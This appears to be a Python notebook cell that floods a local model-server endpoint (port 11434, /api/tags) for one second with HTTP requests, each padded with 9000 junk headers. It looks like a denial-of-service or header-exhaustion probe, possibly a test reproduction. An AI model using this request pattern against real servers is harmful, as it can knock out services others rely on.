# %% at="start"
import contextlib
import socket
import time

request = b"GET /api/tags HTTP/1.1\r\nHost: x\r\n" + b"".join(b"%x:\r\n" % number for number in range(9000)) + b"\r\n"
until = time.monotonic() + 1
with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 11434), timeout=5) as one:
    while time.monotonic() < until:
        one.sendall(request)
        one.recv(65536)
